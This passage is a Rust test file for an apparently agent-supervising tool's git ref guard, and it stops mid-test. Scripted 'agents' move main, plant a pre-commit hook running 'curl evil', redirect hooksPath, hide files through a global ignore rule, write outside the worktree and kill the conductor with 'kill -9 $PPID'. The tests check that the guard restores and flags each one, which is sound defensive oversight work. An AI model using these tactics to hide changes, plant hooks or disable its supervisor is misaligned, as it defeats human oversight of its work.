//! The ref guard with real "agents" (git commands run in the worktree): commits on the work
//! branch, commits on `main`, tags, `.git/config` and hook edits, pushes — each classified by
//! policy, and `main` never moved.

use tnh_conductor::policy::{Policy, PolicySpec, Violation, ViolationClass};
use tnh_conductor::workspace::{GIT_LINK, GuardReport, RefChange, RefClass, Workspace};

use crate::support::{TempRepo, git_in};
use crate::workspace::{create, put, read};

/// A policy forbidding the repository-level operations.
fn strict_policy() -> Policy {
    Policy::compile(&PolicySpec {
        forbidden_operations: ["commit", "push", "modify_git_config"]
            .map(str::to_owned)
            .to_vec(),
        ..PolicySpec::default()
    })
    .unwrap()
}

/// Checks the guard and the step against `policy`.
fn finish_step(
    workspace: &Workspace,
    guard: &tnh_conductor::workspace::RefGuard,
    policy: &Policy,
) -> (GuardReport, Vec<Violation>) {
    let report = checked_report(workspace, guard);
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    let violations = policy.check(&status, &report, None);
    (report, violations)
}

/// The guard's report, after checking that the HEAD it returns (read from the worktree's
/// `HEAD` file and one ref listing) is the one git resolves once HEAD is back on the work branch.
fn checked_report(
    workspace: &Workspace,
    guard: &tnh_conductor::workspace::RefGuard,
) -> GuardReport {
    let checked = guard.check().unwrap();
    assert_eq!(
        git_in(workspace.path(), &["symbolic-ref", "HEAD"]),
        workspace.branch_ref()
    );
    assert_eq!(
        checked.head,
        git_in(workspace.path(), &["rev-parse", "HEAD"])
    );
    checked.report
}

fn classes(violations: &[Violation]) -> Vec<(ViolationClass, String)> {
    violations
        .iter()
        .map(|violation| (violation.class, violation.rule.clone()))
        .collect()
}

#[test]
fn an_agent_committing_on_the_work_branch_is_a_commit_operation() {
    let repo = TempRepo::new();
    let main = repo.git(&["rev-parse", "main"]);
    let workspace = create(&repo, "commits");
    let guard = workspace.guard(&[]).unwrap();
    put(workspace.path(), "a.txt", "a\n");
    git_in(workspace.path(), &["add", "a.txt"]);
    git_in(workspace.path(), &["commit", "-q", "-m", "one"]);
    put(workspace.path(), "b.txt", "b\n");
    git_in(workspace.path(), &["add", "b.txt"]);
    git_in(workspace.path(), &["commit", "-q", "-m", "two"]);

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());
    assert_eq!(report.commits, 2);
    assert!(report.ref_changes.is_empty());
    assert_eq!(
        classes(&violations),
        vec![(ViolationClass::ForbiddenOperation, "commit".to_owned())]
    );
    let permissive = Policy::compile(&PolicySpec::default()).unwrap();
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    assert!(
        permissive.check(&status, &report, None).is_empty(),
        "commits are allowed unless forbidden"
    );
    assert_eq!(repo.git(&["rev-parse", "main"]), main);
}

#[test]
fn an_agent_checking_out_main_and_committing_is_a_protected_branch_violation() {
    let repo = TempRepo::new();
    let main = repo.git(&["rev-parse", "main"]);
    let workspace = create(&repo, "on-main");
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    git_in(dir, &["checkout", "-q", "--ignore-other-worktrees", "main"]);
    put(dir, "sneaky.txt", "on main\n");
    git_in(dir, &["add", "sneaky.txt"]);
    git_in(dir, &["commit", "-q", "-m", "commit on main"]);
    assert_ne!(
        repo.git(&["rev-parse", "main"]),
        main,
        "the agent did move main"
    );

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(repo.git(&["rev-parse", "main"]), main, "main is put back");
    assert_eq!(report.ref_changes.len(), 1);
    let change = &report.ref_changes[0];
    assert_eq!(
        (change.refname.as_str(), change.class, change.restored),
        ("refs/heads/main", RefClass::ProtectedBranch, true)
    );
    assert_eq!(change.before.as_deref(), Some(main.as_str()));
    assert!(report.worktree_head_restored);
    assert_eq!(
        git_in(dir, &["symbolic-ref", "HEAD"]),
        workspace.branch_ref()
    );
    assert_eq!(report.commits, 1);
    assert!(classes(&violations).contains(&(
        ViolationClass::ProtectedBranchViolation,
        "protected_branches".to_owned()
    )));
    assert!(
        classes(&violations).contains(&(ViolationClass::ForbiddenOperation, "commit".to_owned()))
    );
    // The agent's work is still visible as a change of the worktree, not lost and not on main.
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    assert_eq!(
        status
            .files
            .iter()
            .map(|f| f.path.as_str())
            .collect::<Vec<_>>(),
        vec!["sneaky.txt"]
    );
}

#[test]
fn an_agent_creating_a_tag_is_a_protected_tag_violation() {
    let repo = TempRepo::new();
    repo.git(&["tag", "v0.1"]);
    let workspace = create(&repo, "tagger");
    let guard = workspace.guard(&[]).unwrap();
    git_in(workspace.path(), &["tag", "v1.0"]);
    git_in(workspace.path(), &["tag", "-d", "v0.1"]);

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(
        repo.git(&["tag", "--list"]),
        "v0.1",
        "the new tag is removed, the deleted one is back"
    );
    let tags: Vec<(&str, RefClass)> = report
        .ref_changes
        .iter()
        .map(|c| (c.refname.as_str(), c.class))
        .collect();
    assert_eq!(
        tags,
        vec![
            ("refs/tags/v0.1", RefClass::Tag),
            ("refs/tags/v1.0", RefClass::Tag)
        ]
    );
    assert_eq!(
        classes(&violations),
        vec![
            (
                ViolationClass::ProtectedTagViolation,
                "protected_tags".to_owned()
            ),
            (
                ViolationClass::ProtectedTagViolation,
                "protected_tags".to_owned()
            ),
        ]
    );
}

#[test]
fn an_agent_editing_git_config_or_hooks_is_restored_and_classified() {
    let repo = TempRepo::new();
    let config_before = read(repo.path(), ".git/config");
    let workspace = create(&repo, "config");
    let config_before_step = read(repo.path(), ".git/config");
    assert_eq!(
        config_before, config_before_step,
        "creating a workspace leaves .git/config alone"
    );
    let guard = workspace.guard(&[]).unwrap();
    git_in(
        workspace.path(),
        &["config", "core.hooksPath", "/tmp/evil-hooks"],
    );
    put(
        repo.path(),
        ".git/hooks/pre-commit",
        "#!/bin/sh\ncurl evil\n",
    );
    std::fs::write(repo.path().join(".git/info/exclude"), "secret.txt\n").unwrap();

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(read(repo.path(), ".git/config"), config_before);
    assert!(!repo.path().join(".git/hooks/pre-commit").exists());
    assert!(read(repo.path(), ".git/info/exclude").contains(".tnh/"));
    assert_eq!(
        report.git_config_changed,
        vec!["config", "hooks/pre-commit", "info/exclude"]
    );
    assert_eq!(
        classes(&violations)
            .iter()
            .filter(|(_, rule)| rule == "modify_git_config")
            .count(),
        3
    );
    assert!(
        violations
            .iter()
            .all(|v| v.class == ViolationClass::ForbiddenOperation)
    );
}

#[test]
fn configured_globs_and_the_operators_branch_are_protected() {
    let repo = TempRepo::new();
    repo.git(&["checkout", "-q", "-b", "feature/operator"]);
    repo.git(&["branch", "release/1.0"]);
    repo.git(&["branch", "scratch"]);
    let feature = repo.git(&["rev-parse", "HEAD"]);
    let workspace = create(&repo, "globs");
    let guard = workspace.guard(&["release/*".to_owned()]).unwrap();
    put(workspace.path(), "x.txt", "x\n");
    git_in(workspace.path(), &["add", "x.txt"]);
    git_in(workspace.path(), &["commit", "-q", "-m", "x"]);
    let moved = git_in(workspace.path(), &["rev-parse", "HEAD"]);
    for branch in [
        "release/1.0",
        "release/2.0",
        "feature/operator",
        "scratch",
        "new-scratch",
    ] {
        git_in(
            workspace.path(),
            &["update-ref", &format!("refs/heads/{branch}"), &moved],
        );
    }

    let report = guard.verify().unwrap();

    let names: Vec<&str> = report
        .ref_changes
        .iter()
        .map(|c| c.refname.as_str())
        .collect();
    assert_eq!(
        names,
        vec![
            "refs/heads/feature/operator",
            "refs/heads/release/1.0",
            "refs/heads/release/2.0",
            "refs/heads/scratch"
        ]
    );
    assert_eq!(
        report
            .ref_changes
            .iter()
            .map(|change| change.class)
            .collect::<Vec<_>>(),
        [
            RefClass::ProtectedBranch,
            RefClass::ProtectedBranch,
            RefClass::ProtectedBranch,
            RefClass::OperatorBranch
        ]
    );
    assert_eq!(repo.git(&["rev-parse", "feature/operator"]), feature);
    assert_eq!(repo.git(&["rev-parse", "release/1.0"]), feature);
    assert!(
        !repo.git(&["branch", "--list"]).contains("release/2.0"),
        "a created protected branch is deleted"
    );
    // An existing branch of the operator's, protected or not, is never
    // moved; a branch the agent creates is its own.
    assert_eq!(repo.git(&["rev-parse", "scratch"]), feature);
    assert_eq!(repo.git(&["rev-parse", "new-scratch"]), moved);
}

#[test]
fn moving_the_operators_head_is_a_violation_but_is_not_rewritten() {
    let repo = TempRepo::new();
    repo.git(&["branch", "other"]);
    let workspace = create(&repo, "op-head");
    let guard = workspace.guard(&[]).unwrap();
    git_in(repo.path(), &["symbolic-ref", "HEAD", "refs/heads/other"]);
    let report = guard.verify().unwrap();
    // The checkout's files moved with its HEAD: writing HEAD back would corrupt it.
    assert_eq!(repo.git(&["symbolic-ref", "HEAD"]), "refs/heads/other");
    assert_eq!(report.ref_changes.len(), 1);
    assert_eq!(report.ref_changes[0].class, RefClass::OperatorHead);
    assert!(!report.ref_changes[0].restored);
    let policy = Policy::compile(&PolicySpec::default()).unwrap();
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    let violations = policy.check(&status, &report, None);
    assert_eq!(
        classes(&violations),
        vec![(
            ViolationClass::ProtectedBranchViolation,
            "operator_head".to_owned()
        )]
    );
}

#[test]
fn an_agent_pushing_is_a_push_operation() {
    let repo = TempRepo::new();
    let remote = tempfile::tempdir().unwrap();
    git_in(remote.path(), &["init", "-q", "--bare"]);
    repo.git(&["remote", "add", "origin", remote.path().to_str().unwrap()]);
    repo.git(&["push", "-q", "origin", "main"]);
    let workspace = create(&repo, "pusher");
    let guard = workspace.guard(&[]).unwrap();
    git_in(
        workspace.path(),
        &["push", "-q", "origin", "HEAD:refs/heads/agent-work"],
    );

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(
        report.remote_refs_changed,
        vec!["refs/remotes/origin/agent-work"]
    );
    assert_eq!(
        classes(&violations),
        vec![(ViolationClass::ForbiddenOperation, "push".to_owned())]
    );
}

#[test]
fn a_quiet_step_has_a_clean_guard_report() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "quiet");
    let guard = workspace.guard(&[]).unwrap();
    put(workspace.path(), "edit.txt", "just an edit\n");
    assert!(checked_report(&workspace, &guard).is_clean());
}

#[test]
fn an_agent_leaving_head_detached_after_a_commit_is_put_back_on_the_work_branch() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "detached");
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    git_in(dir, &["checkout", "-q", "--detach"]);
    put(dir, "a.txt", "a\n");
    git_in(dir, &["add", "a.txt"]);
    git_in(dir, &["commit", "-q", "-m", "detached work"]);

    let report = checked_report(&workspace, &guard);

    assert!(report.worktree_head_restored);
    // The detached commit is counted, and the branch (hence HEAD) is where it was.
    assert_eq!(report.commits, 1);
    assert_eq!(
        git_in(dir, &["rev-parse", "HEAD"]),
        workspace.record().base_sha
    );
}

#[test]
fn an_agent_deleting_the_work_branch_gets_it_back_so_the_run_can_resume() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "branchless");
    let guard = workspace.guard(&[]).unwrap();
    let dir = workspace.path();
    git_in(dir, &["checkout", "-q", "--detach"]);
    git_in(dir, &["branch", "-D", "tnh/wf/branchless"]);
    put(dir, "work.txt", "keep me\n");

    let report = checked_report(&workspace, &guard);

    assert!(report.worktree_head_restored);
    assert_eq!(
        git_in(dir, &["symbolic-ref", "HEAD"]),
        workspace.branch_ref()
    );
    assert_eq!(
        git_in(dir, &["rev-parse", "HEAD"]),
        workspace.record().base_sha
    );
    let reopened = Workspace::open(workspace.record()).unwrap();
    let status = reopened.status_since(&reopened.pre_run().unwrap()).unwrap();
    assert_eq!(status.files[0].path, "work.txt");
}

/// What the operator's repository looks like from the outside: where `main` is, and its
/// index and status.
fn operator_state(repo: &TempRepo) -> (String, Vec<u8>, String) {
    (
        repo.git(&["rev-parse", "main"]),
        std::fs::read(repo.path().join(".git/index")).unwrap(),
        repo.git(&["status", "--porcelain"]),
    )
}

#[test]
fn an_agent_pointing_the_worktrees_git_file_at_the_operators_repository_misleads_nothing() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "relink");
    let operator = operator_state(&repo);
    let link = workspace.path().join(".git");
    let original_link = read(workspace.path(), ".git");
    let to_operator = format!("gitdir: {}\n", repo.path().join(".git").display());
    let guard = workspace.guard(&[]).unwrap();
    put(workspace.path(), "feature.txt", "new\n");
    std::fs::write(&link, &to_operator).unwrap();

    // The guard puts the link back and reports it as a git configuration change; the step's
    // capture sees the change against the run's own repository.
    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    assert_eq!(status.files.len(), 1, "{status:?}");
    assert_eq!(status.files[0].path, "feature.txt");
    assert_eq!(report.git_config_changed, vec![GIT_LINK]);
    assert_eq!(
        classes(&violations),
        vec![(
            ViolationClass::ForbiddenOperation,
            "modify_git_config".to_owned()
        )]
    );
    assert_eq!(read(workspace.path(), ".git"), original_link);

    // Rewritten again before a rollback (and a reopen, as `tnh-conductor rollback` does): the
    // reset moves the work branch, never the operator's `main` or index.
    std::fs::write(&link, &to_operator).unwrap();
    let reopened = Workspace::open(workspace.record()).unwrap();
    let record = reopened
        .rollback(tnh_conductor::workspace::RollbackTarget::PreRun)
        .unwrap();
    assert!(record.after.is_empty(), "{record:?}");
    assert_eq!(record.before.files_changed, 1);
    assert_eq!(operator_state(&repo), operator);
    assert!(!workspace.path().join("feature.txt").exists());
    assert_eq!(read(workspace.path(), ".git"), original_link);
}

#[test]
fn an_agent_replacing_the_worktrees_git_file_with_a_new_repository_is_undone() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "reinit");
    let operator = operator_state(&repo);
    let original_link = read(workspace.path(), ".git");
    let guard = workspace.guard(&[]).unwrap();
    std::fs::remove_file(workspace.path().join(".git")).unwrap();
    git_in(workspace.path(), &["init", "-q"]);
    put(workspace.path(), "feature.txt", "new\n");
    git_in(workspace.path(), &["add", "feature.txt"]);
    git_in(workspace.path(), &["commit", "-q", "-m", "a new history"]);

    let (report, _) = finish_step(&workspace, &guard, &strict_policy());
    let status = workspace
        .status_since(&workspace.pre_run().unwrap())
        .unwrap();
    assert_eq!(status.files.len(), 1, "{status:?}");
    assert_eq!(report.git_config_changed, vec![GIT_LINK]);
    assert_eq!(read(workspace.path(), ".git"), original_link);
    assert!(workspace.path().join(".git").is_file());
    assert_eq!(operator_state(&repo), operator);
}

/// Runs `unsafe.yaml` (no violation unless the agent writes under `.github/`) with `settings`
/// in `.tnh/config.yaml` and an agent running the shell `script` as an operator whose home
/// is `home` (no system configuration); returns the exit code and the step's
/// `policy_summary.json`.
fn run_unsafe_workflow(
    home: &std::path::Path,
    settings: &str,
    script: &str,
) -> (Option<i32>, serde_json::Value) {
    let repo = crate::kernel_support::RunRepo::new();
    repo.repo.write(
        ".tnh/config.yaml",
        &format!(
            "{settings}agents:\n  agent:\n    kind: command\n    argv: [sh, -c, {script:?}]\n"
        ),
    );
    let workflow = repo.workflow_text(
        "unsafe.yaml",
        &std::fs::read_to_string(crate::support::fixture("runs/unsafe.yaml"))
            .unwrap()
            .replace("agent: scripted", "agent: agent"),
    );

    let output = crate::support::conductor()
        .arg("--repo")
        .arg(repo.path())
        .args(["--color", "never", "run", "--json"])
        .arg(&workflow)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("GIT_CONFIG_GLOBAL")
        .output()
        .unwrap();

    let result: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|_| {
        panic!("no result: {}", crate::support::stderr_text(&output));
    });
    let summary = repo.json(
        result["run_id"].as_str().unwrap(),
        "artifacts/implement/1/policy_summary.json",
    );
    (output.status.code(), summary)
}

/// [`run_unsafe_workflow`] with an agent that hides the CI file it writes: the policy must
/// catch it all the same (exit 1).
fn policy_summary_of_hiding_agent(home: &std::path::Path, script: &str) -> serde_json::Value {
    let (code, summary) = run_unsafe_workflow(home, "", script);
    assert_eq!(code, Some(1), "{summary}");
    assert!(
        summary["violations"]
            .to_string()
            .contains(".github/workflows/ci.yml"),
        "{summary}"
    );
    summary
}

#[test]
fn the_configuration_decides_whether_a_change_to_the_operators_checkout_is_a_violation() {
    let home = tempfile::tempdir().unwrap();
    let script = "echo stray > ../../../stray.txt && echo ok > feature.txt";
    for (settings, code, violations) in [
        ("", Some(1), 1),
        ("operator_checkout: forbid\n", Some(1), 1),
        ("operator_checkout: report\n", Some(0), 0),
    ] {
        let (exit, summary) = run_unsafe_workflow(home.path(), settings, script);

        assert_eq!(exit, code, "{settings}: {summary}");
        assert_eq!(
            summary["violations"].as_array().unwrap().len(),
            violations,
            "{settings}: {summary}"
        );
        // Recorded either way.
        assert_eq!(
            summary["guard_report"]["operator_checkout_changed"],
            serde_json::json!(["stray.txt"]),
            "{settings}: {summary}"
        );
    }
}

#[test]
fn an_agent_hiding_files_through_the_operators_global_git_config_is_undone_and_caught() {
    let home = tempfile::tempdir().unwrap();
    let gitconfig = "[user]\n\tname = Operator\n";
    put(home.path(), ".gitconfig", gitconfig);
    // A global ignore rule would hide every new file from git, and so from the capture.
    let script = "mkdir -p \"$HOME/.config/git\" && printf '*\\n' > \"$HOME/.config/git/ignore\" \
        && printf '[alias]\\n\\tst = status\\n' >> \"$HOME/.gitconfig\" \
        && mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml";
    let summary = policy_summary_of_hiding_agent(home.path(), script);
    let ignore = home.path().join(".config/git/ignore");
    assert_eq!(
        summary["guard_report"]["git_config_changed"],
        serde_json::json!([
            ignore.display().to_string(),
            home.path().join(".gitconfig").display().to_string()
        ]),
        "{summary}"
    );
    assert!(!ignore.exists(), "the ignore file the agent wrote is gone");
    assert_eq!(read(home.path(), ".gitconfig"), gitconfig);
}

#[test]
fn files_the_operators_git_config_names_are_guarded_too() {
    let home = tempfile::tempdir().unwrap();
    let gitconfig = "[core]\n\texcludesFile = ~/.gitignore_global\n\thooksPath = ~/githooks\n\
        [include]\n\tpath = conf/extra.inc\n";
    put(home.path(), ".gitconfig", gitconfig);
    put(home.path(), ".gitignore_global", "*.swp\n");
    put(home.path(), "conf/extra.inc", "[user]\n\tname = Operator\n");
    put(home.path(), "githooks/pre-commit", "#!/bin/sh\n");
    put(home.path(), "notes.txt", "the operator's notes\n");
    // A `*` in the operator's own excludes file hides every new file from the capture; an
    // included file and a hooks folder are as much the operator's configuration. The last
    // line names an unrelated file in the global configuration, which the guard restores:
    // the file itself is none of the guard's business and must survive.
    let script = "printf '*\\n' >> \"$HOME/.gitignore_global\" \
        && printf '[core]\\n\\tfsmonitor = true\\n' >> \"$HOME/conf/extra.inc\" \
        && printf '#!/bin/sh\\n' > \"$HOME/githooks/post-checkout\" \
        && printf '[core]\\n\\tattributesFile = ~/notes.txt\\n' >> \"$HOME/.gitconfig\" \
        && mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml";
    let summary = policy_summary_of_hiding_agent(home.path(), script);
    let mut changed: Vec<String> =
        serde_json::from_value(summary["guard_report"]["git_config_changed"].clone()).unwrap();
    changed.sort();
    let named = |relative: &str| home.path().join(relative).display().to_string();
    assert_eq!(
        changed,
        [
            named(".gitconfig"),
            named(".gitignore_global"),
            named("conf/extra.inc"),
            named("githooks/post-checkout"),
        ],
        "{summary}"
    );
    assert_eq!(read(home.path(), ".gitconfig"), gitconfig);
    assert_eq!(read(home.path(), ".gitignore_global"), "*.swp\n");
    assert_eq!(
        read(home.path(), "conf/extra.inc"),
        "[user]\n\tname = Operator\n"
    );
    assert!(!home.path().join("githooks/post-checkout").exists());
    assert_eq!(read(home.path(), "githooks/pre-commit"), "#!/bin/sh\n");
    assert_eq!(read(home.path(), "notes.txt"), "the operator's notes\n");
}

#[test]
fn relative_worktree_links_are_understood_not_repaired() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "relative");
    let admin = git_in(workspace.path(), &["rev-parse", "--absolute-git-dir"]);
    let name = std::path::Path::new(&admin)
        .file_name()
        .unwrap()
        .to_str()
        .unwrap();
    // As `git worktree add --relative-paths` writes them (git 2.48 and later).
    std::fs::write(
        workspace.path().join(".git"),
        format!("gitdir: ../../../.git/worktrees/{name}\n"),
    )
    .unwrap();
    std::fs::write(
        std::path::Path::new(&admin).join("gitdir"),
        "../../../.tnh/worktrees/relative/.git\n",
    )
    .unwrap();
    let reopened = Workspace::open(workspace.record()).unwrap();
    let guard = reopened.guard(&[]).unwrap();
    put(workspace.path(), "a.txt", "a\n");

    let (report, _) = finish_step(&reopened, &guard, &strict_policy());

    assert!(report.git_config_changed.is_empty(), "{report:?}");
    assert_eq!(
        read(workspace.path(), ".git"),
        format!("gitdir: ../../../.git/worktrees/{name}\n")
    );
}

#[test]
fn a_repository_under_a_non_utf8_path_keeps_its_worktree_link_byte_for_byte() {
    use std::os::unix::ffi::OsStrExt;
    let scratch = tempfile::tempdir().unwrap();
    let root = scratch
        .path()
        .join(std::ffi::OsStr::from_bytes(b"repo-\xff\xfe"));
    std::fs::create_dir(&root).unwrap();
    git_in(&root, &["init", "-q", "-b", "main"]);
    put(&root, "README.md", "# r\n");
    git_in(&root, &["add", "-A"]);
    git_in(&root, &["commit", "-q", "-m", "base"]);
    let workspace = Workspace::create(
        &root,
        &tnh_conductor::ids::RunId::new("bytes"),
        &tnh_conductor::ids::WorkflowId::new("wf"),
        None,
    )
    .unwrap();
    let link = workspace.path().join(".git");
    let original = std::fs::read(&link).unwrap();
    let guard = workspace.guard(&[]).unwrap();

    assert!(guard.verify().unwrap().git_config_changed.is_empty());
    std::fs::write(&link, "gitdir: /elsewhere\n").unwrap();
    let guard = Workspace::open(workspace.record())
        .unwrap()
        .guard(&[])
        .unwrap();
    assert_eq!(guard.verify().unwrap().git_config_changed, vec![GIT_LINK]);
    assert_eq!(std::fs::read(&link).unwrap(), original);
}

#[test]
fn locks_left_by_an_agent_killed_inside_git_are_removed_after_the_step() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "stale");
    let guard = workspace.guard(&[]).unwrap();
    let admin = std::path::PathBuf::from(git_in(
        workspace.path(),
        &["rev-parse", "--absolute-git-dir"],
    ));
    std::fs::write(admin.join("index.lock"), "").unwrap();
    put(workspace.path(), "a.txt", "a\n");

    let report = guard.verify().unwrap();

    assert_eq!(
        report.stale_locks_removed,
        vec![admin.join("index.lock").display().to_string()]
    );
    // The next step's agent can use git again.
    git_in(workspace.path(), &["add", "a.txt"]);
    git_in(workspace.path(), &["commit", "-q", "-m", "next step"]);
}

#[test]
fn files_changed_in_the_operators_checkout_during_a_step_are_reported_and_flagged() {
    let repo = TempRepo::new();
    repo.write("src/lib.rs", "pub fn a() {}\n");
    repo.write("src/kept.rs", "pub fn k() {}\n");
    repo.commit_all("sources");
    let workspace = create(&repo, "checkout");
    // The operator's checkout is dirty before the step: an edited tracked file, untracked
    // notes (one with a space in its name) — and none of that is the step's doing.
    repo.write("src/lib.rs", "pub fn a() { /* operator */ }\n");
    repo.write("my notes.txt", "todo\n");
    repo.write("scratch.txt", "scratch\n");
    let guard = workspace.guard(&[]).unwrap();
    // An agent that found the checkout a few folders up: edits the already-dirty file again,
    // edits a clean one, creates a file, deletes an untracked one. Its worktree changes too.
    let checkout = workspace.path().join("../../..");
    put(&checkout, "src/lib.rs", "pub fn a() { /* agent */ }\n");
    put(&checkout, "src/kept.rs", "pub fn k() { /* agent */ }\n");
    put(&checkout, "new dir/stray.rs", "\n");
    std::fs::remove_file(checkout.join("scratch.txt")).unwrap();
    put(workspace.path(), "README.md", "# changed in the worktree\n");

    let (report, violations) = finish_step(&workspace, &guard, &strict_policy());

    assert_eq!(
        report.operator_checkout_changed,
        [
            "new dir/stray.rs",
            "scratch.txt",
            "src/kept.rs",
            "src/lib.rs"
        ],
        "{report:?}"
    );
    let flagged: Vec<(ViolationClass, &str, Option<&str>)> = violations
        .iter()
        .map(|violation| {
            (
                violation.class,
                violation.rule.as_str(),
                violation.path.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        flagged,
        [
            (
                ViolationClass::PathEscape,
                "operator_checkout",
                Some("new dir/stray.rs")
            ),
            (
                ViolationClass::PathEscape,
                "operator_checkout",
                Some("scratch.txt")
            ),
            (
                ViolationClass::PathEscape,
                "operator_checkout",
                Some("src/kept.rs")
            ),
            (
                ViolationClass::PathEscape,
                "operator_checkout",
                Some("src/lib.rs")
            ),
        ]
    );
    // The detail names what wrote there as either kind of step's process: an EVALUATE's
    // planner is guarded like an agent.
    assert!(
        violations[0]
            .detail
            .contains("the step's agent (or planner) wrote outside its worktree"),
        "{violations:?}"
    );
    // Nothing is put back in the operator's checkout: it may be the operator's own work.
    assert_eq!(
        read(repo.path(), "src/kept.rs"),
        "pub fn k() { /* agent */ }\n"
    );

    // A step that leaves the checkout alone reports nothing, however dirty it is.
    let guard = workspace.guard(&[]).unwrap();
    put(workspace.path(), "README.md", "# changed again\n");
    let (report, _) = finish_step(&workspace, &guard, &strict_policy());
    assert!(report.operator_checkout_changed.is_empty(), "{report:?}");
}

#[test]
fn an_agent_that_kills_the_conductor_is_still_checked_on_resume() {
    kill_and_resume(
        "",
        &[
            ("protected_branches", "refs/heads/main"),
            ("operator_checkout", "stray.txt"),
        ],
    );
}

#[test]
fn on_resume_the_configuration_still_decides_about_the_operators_checkout() {
    kill_and_resume(
        "operator_checkout: report\n",
        &[("protected_branches", "refs/heads/main")],
    );
}

/// A run whose agent moves `main`, writes into the operator's checkout and kills the
/// conductor, with `settings` in `.tnh/config.yaml`; resumed, it must be checked all the same
/// and record `flags` (rule, path) as violations of the interrupted visit.
///
/// `main` moved since the step started may as well be the operator's work
/// since the kill, so a plain `resume` refuses (exit 2) naming it and puts nothing back; the
/// operator says it was the agent's with `--put-back`, which restores it as before.
fn kill_and_resume(settings: &str, flags: &[(&str, &str)]) {
    let repo = crate::kernel_support::RunRepo::new();
    let main_before = repo.repo.git(&["rev-parse", "main"]);
    // The first visit moves `main` to its own commit, writes into the operator's checkout and
    // kills the process that would have checked it; the second visit behaves.
    let script = "if [ ! -e ../../killed ]; then touch ../../killed; echo x > b.txt \
        && git add b.txt && git commit -qm evil && git update-ref refs/heads/main HEAD \
        && echo stray > ../../../stray.txt && kill -9 $PPID; exit 0; fi; echo ok > c.txt";
    repo.repo.write(
        ".tnh/config.yaml",
        &format!(
            "{settings}agents:\n  killer:\n    kind: command\n    argv: [sh, -c, {script:?}]\n"
        ),
    );
    let workflow = repo.workflow_text(
        "killer.yaml",
        "workflow_id: killer\nversion: 1\ndescription: d\nentry_step: work\nsteps:\n  - id: work\n    opcode: RUN_AGENT\n    agent: killer\n    prompt: go\n    routes:\n      \"*\": done\n  - id: done\n    opcode: STOP\n    outcome: success\n    reason: done\n",
    );

    let killed = repo.conductor(&["-q", "run", workflow.to_str().unwrap()]);
    assert_eq!(killed.status.code(), None, "killed by the agent");
    assert_ne!(repo.repo.git(&["rev-parse", "main"]), main_before);
    let run_dir = std::fs::read_dir(repo.path().join(".tnh/run"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let run_id = run_dir.file_name().unwrap().to_str().unwrap().to_owned();
    // What the guard recorded survived the kill, readable by the owner only, in its format.
    let saved = run_dir.join("artifacts/work/1/guard_state.json");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&saved).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let schema = crate::support::conductor()
        .args(["schema", "guard-state"])
        .output()
        .unwrap();
    let validator =
        jsonschema::validator_for(&serde_json::from_slice(&schema.stdout).unwrap()).unwrap();
    let state: serde_json::Value = serde_json::from_slice(&std::fs::read(&saved).unwrap()).unwrap();
    assert!(validator.is_valid(&state), "{state}");

    let moved = repo.repo.git(&["rev-parse", "main"]);
    let refused = repo.conductor(&["resume", &run_id]);
    let stderr = crate::support::stderr_text(&refused);
    assert_eq!(refused.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "`refs/heads/main` (protected branch): {} → {}",
            &main_before[..12],
            &moved[..12]
        )),
        "{stderr}"
    );
    assert_eq!(
        repo.repo.git(&["rev-parse", "main"]),
        moved,
        "nothing put back"
    );
    assert!(saved.exists(), "the visit is still to be checked");

    let resumed = repo.conductor(&["resume", "--put-back", &run_id]);

    assert_eq!(
        resumed.status.code(),
        Some(0),
        "{}",
        crate::support::stderr_text(&resumed)
    );
    assert_eq!(repo.repo.git(&["rev-parse", "main"]), main_before);
    assert!(!saved.exists(), "the saved state is gone once checked");
    let events = repo.events(&run_id);
    let interrupted = events
        .iter()
        .find(|event| event["event_type"] == "step_interrupted")
        .unwrap();
    let report = &interrupted["guard_report"];
    assert_eq!(report["ref_changes"][0]["refname"], "refs/heads/main");
    assert_eq!(report["ref_changes"][0]["restored"], true);
    assert_eq!(
        report["operator_checkout_changed"],
        serde_json::json!(["stray.txt"])
    );
    let flagged: Vec<(&str, &str)> = events
        .iter()
        .filter(|event| event["event_type"] == "policy_violation")
        .map(|event| {
            (
                event["violation"]["rule"].as_str().unwrap(),
                event["violation"]["path"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(flagged, flags);
    let show = crate::support::stdout_text(&repo.conductor(&["runs", "show", &run_id]));
    assert!(
        show.contains("work #1: interrupted — the driving process ended during the step"),
        "{show}"
    );
    assert!(show.contains("policy violation — protected branch violation `refs/heads/main`"));
}

#[test]
fn an_agent_that_moves_the_runs_snapshot_refs_cannot_make_a_rollback_keep_its_change() {
    let repo = TempRepo::new();
    let workspace = create(&repo, "snapshots");
    workspace
        .snapshot_pre_step(&tnh_conductor::ids::StepId::new("implement"), 1)
        .unwrap();
